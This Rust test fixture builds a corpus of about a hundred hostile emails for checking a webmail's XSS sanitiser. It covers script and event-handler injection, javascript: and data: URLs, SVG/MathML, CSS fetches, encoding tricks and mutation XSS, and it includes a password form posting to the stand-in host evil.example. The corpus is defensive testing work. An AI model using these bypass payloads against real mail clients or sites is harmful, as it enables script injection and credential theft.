//! The XSS corpus of issue 10: hostile mails, each with one trick and a
//! benign sentence that must still be shown once the trick is removed.
//!
//! Convention (what `browser/xss.mjs` watches): every script payload calls
//! `__pwned(N)` (a binding the browser test installs in every frame), and
//! every fetch payload names `https://evil.example/N` (every host but the
//! webmail's is routed to a recorder). `N` is the case's number, so a
//! report says which trick got through. Links meant to stay point to
//! `https://ok.example/`.
//!
//! Families: script tags, event handlers, `javascript:` and `data:` URLs,
//! SVG, MathML, CSS (expressions, `@import`, `url()`, escapes), `<meta>`
//! refresh, `<base>`, forms, frames, remote fetches past the image
//! blocker, encodings (RFC 2047 headers, RFC 2045 quoted-printable and
//! base64, charsets, entities, control characters), and mutation XSS
//! (noscript, style, template, comments, foreign content, CDATA).
#![allow(dead_code)]

use base64::Engine;

pub struct Case {
    pub id: u32,
    /// What the trick is, for reports.
    pub what: &'static str,
    /// The whole message as sent over SMTP (CRLF line ends).
    pub raw: Vec<u8>,
    /// Text the reader must still see (in the frame, or in the page for
    /// mails without an HTML body).
    pub benign: String,
    /// The mail has an HTML body (shown in the frame).
    pub html: bool,
}

pub fn benign(id: u32) -> String {
    format!("Texte bénin {id:03}.")
}

fn p(id: u32) -> String {
    format!("__pwned({id})")
}

fn e(id: u32) -> String {
    format!("https://evil.example/{id}")
}

fn crlf(s: &str) -> String {
    s.replace("\r\n", "\n").replace('\n', "\r\n")
}

/// A whole message: our headers, then `head` (Content-Type and the rest)
/// and the body bytes.
fn message(id: u32, subject: &str, head: &str, body: &[u8]) -> Vec<u8> {
    let mut m = crlf(&format!(
        "From: Expediteur piege <evil@example.org>\n\
         To: lucie.bernard@ac-test.fr\n\
         Subject: {subject}\n\
         Date: Tue, 1 Dec 2026 10:00:00 +0100\n\
         Message-ID: <xss-{id:03}@example.org>\n\
         MIME-Version: 1.0\n\
         {head}\n\
         \n"
    ))
    .into_bytes();
    m.extend_from_slice(body);
    if !m.ends_with(b"\r\n") {
        m.extend_from_slice(b"\r\n");
    }
    m
}

fn page(id: u32, head: &str, body: &str) -> String {
    crlf(&format!(
        "<!doctype html>\n<html><head>{head}</head><body>\n<p>{}</p>\n{body}\n<p>Fin du message.</p>\n</body></html>",
        benign(id)
    ))
}

pub fn cases() -> Vec<Case> {
    let mut v: Vec<Case> = Vec::new();
    let mut html_head = |id: u32, what: &'static str, head: &str, body: &str| {
        let html = page(id, head, body);
        v.push(Case {
            id,
            what,
            raw: message(
                id,
                &format!("Piege {id:03}"),
                "Content-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: 8bit",
                html.as_bytes(),
            ),
            benign: benign(id),
            html: true,
        });
    };
    let mut n = 0;
    let mut next = || {
        n += 1;
        n
    };
    macro_rules! html {
        ($what:expr, head $head:expr) => {{
            let id = next();
            let h: String = $head(id);
            html_head(id, $what, &h, "");
        }};
        ($what:expr, $body:expr) => {{
            let id = next();
            let b: String = $body(id);
            html_head(id, $what, "", &b);
        }};
    }

    // Script tags.
    html!("script", |i| format!("<script>{}</script>", p(i)));
    html!("script src", |i| format!(
        "<SCRIPT SRC={}.js></SCRIPT>",
        e(i)
    ));
    html!("split script", |i| format!(
        "<scr<script>ipt>{}</scr</script>ipt>",
        p(i)
    ));
    html!("module script", |i| format!(
        "<script type=\"module\">{}</script>",
        p(i)
    ));
    html!(
        "script in head",
        head | i | format!("<script>{}</script>", p(i))
    );
    html!("script with null", |i| format!(
        "<scr\u{0}ipt>{}</scr\u{0}ipt>",
        p(i)
    ));
    // Event handlers.
    html!("img onerror", |i| format!(
        "<img src=x onerror=\"{}\">",
        p(i)
    ));
    html!("body onload", |i| format!("<body onload=\"{}\">", p(i)));
    html!("details ontoggle", |i| format!(
        "<details open ontoggle=\"{}\"><summary>s</summary>d</details>",
        p(i)
    ));
    html!("autofocus onfocus", |i| format!(
        "<input autofocus onfocus=\"{}\"><a href=\"#x\" autofocus onfocus=\"{}\">a</a>",
        p(i),
        p(i)
    ));
    html!("marquee onstart", |i| format!(
        "<marquee onstart=\"{}\">m</marquee>",
        p(i)
    ));
    html!("video source onerror", |i| format!(
        "<video><source onerror=\"{}\"></video><audio src=x onerror=\"{}\"></audio>",
        p(i),
        p(i)
    ));
    html!("slash separators", |i| format!(
        "<img/src=x/onerror={}>",
        p(i)
    ));
    html!("svg onload", |i| format!("<svg onload=\"{}\"></svg>", p(i)));
    html!("style onload", |i| format!(
        "<style onload=\"{}\"></style><link rel=stylesheet href=x onerror=\"{}\">",
        p(i),
        p(i)
    ));
    html!("handler with entities", |i| format!(
        "<img src=x on&#101;rror=\"{}\"><img src=x onerror=\"&#95;&#95;pwned({i})\">",
        p(i)
    ));
    html!("onanimationstart", |i| format!(
        "<style>@keyframes k{{}}</style><div style=\"animation-name:k\" onanimationstart=\"{}\">d</div>",
        p(i)
    ));
    // javascript: URLs.
    html!("javascript href", |i| format!(
        "<a href=\"javascript:{}\">clic</a>",
        p(i)
    ));
    html!("mixed case scheme", |i| format!(
        "<a href=\"JaVaScRiPt:{}\">clic</a>",
        p(i)
    ));
    html!("tab in scheme", |i| format!(
        "<a href=\"java&#x09;script:{}\">clic</a><a href=\"java\tscript:{}\">c2</a>",
        p(i),
        p(i)
    ));
    html!("entity-encoded scheme", |i| format!(
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{}\">clic</a>",
        p(i)
    ));
    html!("control chars before scheme", |i| format!(
        "<a href=\"&#1; javascript:{}\">clic</a>",
        p(i)
    ));
    html!("iframe javascript", |i| format!(
        "<iframe src=\"javascript:{}\"></iframe>",
        p(i)
    ));
    html!("form javascript action", |i| format!(
        "<form action=\"javascript:{}\"><button autofocus>go</button><input type=submit formaction=\"javascript:{}\"></form>",
        p(i),
        p(i)
    ));
    html!("object and embed javascript", |i| format!(
        "<object data=\"javascript:{}\"></object><embed src=\"javascript:{}\">",
        p(i),
        p(i)
    ));
    html!("area javascript", |i| format!(
        "<img src=x usemap=#m><map name=m><area shape=rect coords=0,0,50,50 href=\"javascript:{}\"></map>",
        p(i)
    ));
    // data: URLs.
    html!("iframe data html", |i| format!(
        "<iframe src=\"data:text/html,<script>{}</script>\"></iframe>",
        p(i)
    ));
    html!("link data base64", |i| {
        let b =
            base64::engine::general_purpose::STANDARD.encode(format!("<script>{}</script>", p(i)));
        format!(
            "<a href=\"data:text/html;base64,{b}\">clic</a><object data=\"data:text/html;base64,{b}\"></object>"
        )
    });
    html!("img data svg", |i| format!(
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{}'/>\">",
        p(i)
    ));
    html!("embed data svg", |i| {
        let b = base64::engine::general_purpose::STANDARD.encode(format!(
            "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{}\"/>",
            p(i)
        ));
        format!("<embed src=\"data:image/svg+xml;base64,{b}\" type=\"image/svg+xml\">")
    });
    // SVG.
    html!("svg script", |i| format!(
        "<svg><script>{}</script></svg>",
        p(i)
    ));
    html!("svg animate onbegin", |i| format!(
        "<svg><animate onbegin=\"{}\" attributeName=x dur=1s></animate></svg>",
        p(i)
    ));
    html!("svg xlink javascript", |i| format!(
        "<svg><a xlink:href=\"javascript:{}\"><text x=20 y=20>clic</text></a></svg>",
        p(i)
    ));
    html!("svg foreignObject", |i| format!(
        "<svg><foreignObject><img src=x onerror=\"{}\"></foreignObject></svg>",
        p(i)
    ));
    html!("svg image remote", |i| format!(
        "<svg><image href=\"{}\"/><use href=\"{}#a\"/></svg>",
        e(i),
        e(i)
    ));
    html!("svg set handler", |i| format!(
        "<svg><set attributeName=onmouseover to=\"{}\"/><animate attributeName=href values=\"javascript:{}\"/></svg>",
        p(i),
        p(i)
    ));
    html!("svg style import", |i| format!(
        "<svg><style>@import url({});</style></svg>",
        e(i)
    ));
    // MathML.
    html!("maction javascript", |i| format!(
        "<math><maction actiontype=statusline xlink:href=\"javascript:{}\">clic</maction></math>",
        p(i)
    ));
    html!("math href", |i| format!(
        "<math href=\"javascript:{}\"><mi>x</mi></math>",
        p(i)
    ));
    html!("mglyph style", |i| format!(
        "<math><mtext><table><mglyph><style><img src=x onerror=\"{}\"></style></mglyph></table></mtext></math>",
        p(i)
    ));
    // CSS.
    html!("css expression", |i| format!(
        "<div style=\"width:expression({})\">d</div>",
        p(i)
    ));
    html!("style @import", |i| format!(
        "<style>@import url({}.css);</style>",
        e(i)
    ));
    html!("style block url", |i| format!(
        "<style>body{{background:url({})}}</style>",
        e(i)
    ));
    html!("style attr url", |i| format!(
        "<div style=\"background-image:url({})\">d</div>",
        e(i)
    ));
    html!("css escape url", |i| format!(
        "<div style=\"background:u\\72l({})\">d</div>",
        e(i)
    ));
    html!(
        "link stylesheet",
        head | i | format!("<link rel=stylesheet href=\"{}.css\">", e(i))
    );
    html!("behavior and binding", |i| format!(
        "<div style=\"behavior:url({i}.htc);-moz-binding:url({}.xml)\">d</div>",
        e(i)
    ));
    html!("font-face", |i| format!(
        "<style>@font-face{{font-family:x;src:url({}.woff)}} p{{font-family:x}}</style>",
        e(i)
    ));
    html!("quoted url with comment", |i| format!(
        "<div style=\"color:red;/**/background:url(&#x27;{}&#x27;)\">d</div>",
        e(i)
    ));
    html!("image-set", |i| format!(
        "<div style=\"background-image:image-set('{}' 1x)\">d</div>",
        e(i)
    ));
    // <meta> and <base>.
    html!(
        "meta refresh",
        head | i | format!("<meta http-equiv=\"refresh\" content=\"0;url={}\">", e(i))
    );
    html!("meta refresh javascript", |i| format!(
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:{}\">",
        p(i)
    ));
    html!("base href", head | i | format!("<base href=\"{}/\">", e(i)));
    html!("base then relative", |i| format!(
        "<base href=\"{}/\"><img src=\"pixel.gif\"><a href=\"page\">lien</a>",
        e(i)
    ));
    html!("base javascript", |i| format!(
        "<base href=\"javascript:{}//\"><a href=\"/x\">clic</a>",
        p(i)
    ));
    html!(
        "dns prefetch",
        head | i
            | format!(
                "<link rel=dns-prefetch href=\"{}\"><link rel=prefetch href=\"{}\">",
                e(i),
                e(i)
            )
    );
    // Forms.
    html!("password form", |i| format!(
        "<form action=\"{}\" method=post><input type=password name=p><input type=submit autofocus></form>",
        e(i)
    ));
    html!("formaction button", |i| format!(
        "<form id=f></form><button form=f formaction=\"{}\">go</button>",
        e(i)
    ));
    html!("isindex", |i| format!(
        "<isindex action=\"javascript:{}\" type=image src=\"{}\">",
        p(i),
        e(i)
    ));
    // Frames.
    html!("iframe remote", |i| format!(
        "<iframe src=\"{}\"></iframe>",
        e(i)
    ));
    html!("iframe srcdoc", |i| format!(
        "<iframe srcdoc=\"<script>{}</script>\"></iframe>",
        p(i)
    ));
    html!("nested srcdoc", |i| format!(
        "<iframe srcdoc=\"<iframe srcdoc='&amp;lt;script&amp;gt;{}&amp;lt;/script&amp;gt;'></iframe>\"></iframe>",
        p(i)
    ));
    html!("frameset", |i| format!(
        "<frameset><frame src=\"javascript:{}\"></frameset>",
        p(i)
    ));
    html!("portal and fencedframe", |i| format!(
        "<portal src=\"{}\"></portal><fencedframe src=\"{}\"></fencedframe>",
        e(i),
        e(i)
    ));
    // Remote fetches past the image blocker.
    html!("remote image", |i| format!(
        "<img src=\"{}\" alt=\"pixel\">",
        e(i)
    ));
    html!("protocol-relative image", |i| format!(
        "<img src=\"//evil.example/{i}\">"
    ));
    html!("control char before image url", |i| format!(
        "<img src=\"&#1;{}\">",
        e(i)
    ));
    html!("tab inside image scheme", |i| format!(
        "<img src=\"ht&#9;tps://evil.example/{i}\"><img src=\"ht\ntps://evil.example/{i}\">"
    ));
    html!("srcset", |i| format!(
        "<img src=x srcset=\"{} 1x\"><picture><source srcset=\"{}\"><img></picture>",
        e(i),
        e(i)
    ));
    html!("ping, poster, background", |i| format!(
        "<a href=\"https://ok.example/\" ping=\"{}\">lien</a><video poster=\"{}\"></video><table background=\"{}\"><tr><td>t</td></tr></table>",
        e(i),
        e(i),
        e(i)
    ));
    html!("input image, lowsrc", |i| format!(
        "<input type=image src=\"{}\"><img lowsrc=\"{}\" dynsrc=\"{}\">",
        e(i),
        e(i),
        e(i)
    ));
    html!("body background", |i| format!(
        "<body background=\"{}\">",
        e(i)
    ));
    // Mutation XSS.
    html!("noscript title", |i| format!(
        "<noscript><p title=\"</noscript><img src=x onerror={}>\"></noscript>",
        p(i)
    ));
    html!("style in style", |i| format!(
        "<style><style/><img src=x onerror={}>",
        p(i)
    ));
    html!("template", |i| format!(
        "<template><script>{}</script><img src=x onerror={}></template>",
        p(i),
        p(i)
    ));
    html!("comment breakout", |i| format!(
        "<!--><img src=x onerror={}>--><!-- --!><img src=x onerror={}> -->",
        p(i),
        p(i)
    ));
    html!("svg p style", |i| format!(
        "<svg></p><style><a id=\"</style><img src=1 onerror={}>\">",
        p(i)
    ));
    html!("math mtext h1", |i| format!(
        "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror={}>\"></style></h1>",
        p(i)
    ));
    html!("form math mglyph", |i| format!(
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
        p(i)
    ));
    html!("title textarea", |i| format!(
        "<title><img src=x onerror={}></title><textarea><img src=x onerror={}></textarea>",
        p(i),
        p(i)
    ));
    html!("select template style", |i| format!(
        "<select><template><style><img src=x onerror={}></style></template></select>",
        p(i)
    ));
    html!("attribute breakout", |i| format!(
        "<a href=\"https://ok.example/\" title=\"&#x3C;/a&#x3E;&#x3C;img src=x onerror={}&#x3E;\">lien</a>",
        p(i)
    ));
    html!("cdata", |i| format!(
        "<div><![CDATA[<img src=x onerror={}>]]></div><svg><![CDATA[><img src=x onerror={}>]]></svg>",
        p(i),
        p(i)
    ));
    html!("noembed noframes iframe text", |i| format!(
        "<noembed><img title=\"</noembed><img src onerror={}>\"></noembed><noframes><img title=\"</noframes><img src onerror={}>\"></noframes><iframe><img title=\"</iframe><img src onerror={}>\"></iframe>",
        p(i),
        p(i),
        p(i)
    ));
    html!("xmp plaintext", |i| format!(
        "<xmp><img src=x onerror={}></xmp><listing><img src=x onerror={}></listing>",
        p(i),
        p(i)
    ));
    html!("table foster parenting", |i| format!(
        "<table><caption><svg><desc><img src=x onerror={}></desc></svg></caption></table><table><script>{}</script></table>",
        p(i),
        p(i)
    ));

    encodings(&mut v, n);
    v
}

/// Subject (empty: the default), the Content-* headers, the body, whether
/// it has an HTML body, and the benign text when not the default.
type Made = (String, String, Vec<u8>, bool, Option<&'static str>);
/// Puts the case's number into a text.
type Fill<'a> = &'a dyn Fn(&str) -> String;

/// The tricks that hide in transfer encodings, charsets and headers.
/// `{ID}` and `{N}` (zero-padded) in the texts become the case's number
/// before anything is encoded.
fn encodings(v: &mut Vec<Case>, mut n: u32) {
    let b64 = |s: &str| base64::engine::general_purpose::STANDARD.encode(s);
    let mut push = |what: &'static str, f: &dyn Fn(Fill) -> Made| {
        n += 1;
        let id = n;
        let fill = |s: &str| {
            s.replace("{N}", &format!("{id:03}"))
                .replace("{ID}", &id.to_string())
        };
        let (subject, head, body, html, marker) = f(&fill);
        let subject = if subject.is_empty() {
            format!("Piege {id:03}")
        } else {
            subject
        };
        let benign = match marker {
            Some(m) => fill(m),
            None => benign(id),
        };
        v.push(Case {
            id,
            what,
            raw: message(id, &subject, &crlf(&head), &body),
            benign,
            html,
        });
    };
    let html8 = "Content-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: 8bit";
    // The payload in the headers the page shows (RFC 2047).
    push("RFC 2047 subject and reply-to", &|fill| {
        let subject = format!(
            "=?UTF-8?B?{}?=",
            b64(&fill(
                "<img src=x onerror=__pwned({ID})><script>__pwned({ID})</script>"
            ))
        );
        let head = fill(
            "Reply-To: =?UTF-8?Q?=3Cimg_src=3Dx_onerror=3D=5F=5Fpwned({ID})=3E?= <evil@example.org>\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit",
        );
        (
            subject,
            head,
            crlf(&fill("Texte bénin {N}.\n")).into_bytes(),
            false,
            None,
        )
    });
    // Quoted-printable hides the tags and splits them with soft breaks.
    push("quoted-printable", &|fill| {
        let body = fill(
            "<p>Texte b=C3=A9nin {N}.</p>=3Cscr=\nipt=3E__pwned({ID})=3C/script=3E<img src=3Dx on=\nerror=3D__pwned({ID})>\n",
        );
        (
            String::new(),
            "Content-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: quoted-printable"
                .into(),
            crlf(&body).into_bytes(),
            true,
            None,
        )
    });
    push("base64 body", &|fill| {
        let body = b64(&fill(
            "<p>Texte bénin {N}.</p><script>__pwned({ID})</script><svg onload=__pwned({ID})>",
        ));
        (
            String::new(),
            "Content-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: base64".into(),
            body.into_bytes(),
            true,
            None,
        )
    });
    // Whatever a charset decodes to is what is sanitised and served as
    // UTF-8, so the browser never decodes the sender's bytes itself.
    push("utf-7 charset", &|fill| {
        let body = fill("<p>Lisible {N}.</p>+ADw-script+AD4-__pwned({ID})+ADw-/script+AD4-");
        (
            String::new(),
            "Content-Type: text/html; charset=utf-7".into(),
            body.into_bytes(),
            true,
            Some("Lisible {N}."),
        )
    });
    push("latin-1 charset", &|fill| {
        let mut body = b"<p>Texte b\xe9nin ".to_vec();
        body.extend_from_slice(fill("{N}.</p><img src=x onerror=__pwned({ID})>").as_bytes());
        (
            String::new(),
            "Content-Type: text/html; charset=iso-8859-1\nContent-Transfer-Encoding: 8bit".into(),
            body,
            true,
            None,
        )
    });
    push("iso-2022-jp escapes", &|fill| {
        let mut body = fill("<p>Lisible {N}.</p><a href=\"https://ok.example/").into_bytes();
        body.extend_from_slice(b"\x1b$B\">\x1b(B");
        body.extend_from_slice(fill("<img src=x onerror=__pwned({ID})>\">l</a>").as_bytes());
        (
            String::new(),
            "Content-Type: text/html; charset=iso-2022-jp".into(),
            body,
            true,
            Some("Lisible {N}."),
        )
    });
    push("invalid utf-8 and overlongs", &|fill| {
        let mut body = fill("<p>Texte b&eacute;nin {N}.</p>").into_bytes();
        body.extend_from_slice(b"\xc0\xbcscript\xc0\xbe");
        body.extend_from_slice(fill("__pwned({ID})").as_bytes());
        body.extend_from_slice(b"\xc0\xbc/script\xc0\xbe<img src=x \xff onerror=");
        body.extend_from_slice(fill("__pwned({ID})>").as_bytes());
        (String::new(), html8.into(), body, true, None)
    });
    push("entities only", &|fill| {
        let body = fill("<p>Texte b&eacute;nin {N}.</p>&lt;script&gt;__pwned({ID})&lt;/script&gt;");
        (String::new(), html8.into(), body.into_bytes(), true, None)
    });
    push("html in text/plain", &|fill| {
        let body = fill(
            "Texte bénin {N}.\n<script>__pwned({ID})</script><img src=x onerror=__pwned({ID})>\n",
        );
        (
            String::new(),
            "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit".into(),
            crlf(&body).into_bytes(),
            false,
            None,
        )
    });
    push("alternative with hostile html", &|fill| {
        let body = fill(
            "--alt\nContent-Type: text/plain; charset=utf-8\n\nVersion texte.\n--alt\nContent-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n<p>Texte bénin {N}.</p><script>__pwned({ID})</script>\n--alt--\n",
        );
        (
            String::new(),
            "Content-Type: multipart/alternative; boundary=\"alt\"".into(),
            crlf(&body).into_bytes(),
            true,
            None,
        )
    });
    push("hostile attachment names", &|fill| {
        let body = fill(
            "--mix\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\nTexte bénin {N}.\n--mix\nContent-Type: text/html; name=\"<img src=x onerror=__pwned({ID})>.html\"\nContent-Disposition: attachment; filename=\"<img src=x onerror=__pwned({ID})>.html\"\n\n<script>__pwned({ID})</script>\n--mix--\n",
        );
        (
            String::new(),
            "Content-Type: multipart/mixed; boundary=\"mix\"".into(),
            crlf(&body).into_bytes(),
            false,
            None,
        )
    });
    push("attached message", &|fill| {
        let body = fill(
            "--mix\nContent-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n<p>Texte bénin {N}.</p>\n--mix\nContent-Type: message/rfc822\n\nSubject: <script>__pwned({ID})</script>\nContent-Type: text/html\n\n<script>__pwned({ID})</script><img src=https://evil.example/{ID}>\n--mix--\n",
        );
        (
            String::new(),
            "Content-Type: multipart/mixed; boundary=\"mix\"".into(),
            crlf(&body).into_bytes(),
            true,
            None,
        )
    });
    push("hostile content-ids", &|fill| {
        let body = fill(
            "--rel\nContent-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n<p>Texte bénin {N}.</p><img src=\"cid:a&quot; onerror=&quot;__pwned({ID})\"><img src=\"cid:b\"><img src=\"cid:c\">\n--rel\nContent-Type: text/html\nContent-ID: <b>\n\n<script>__pwned({ID})</script>\n--rel\nContent-Type: image/svg+xml\nContent-ID: <c>\n\n<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"__pwned({ID})\"/>\n--rel--\n",
        );
        (
            String::new(),
            "Content-Type: multipart/related; boundary=\"rel\"".into(),
            crlf(&body).into_bytes(),
            true,
            None,
        )
    });
}
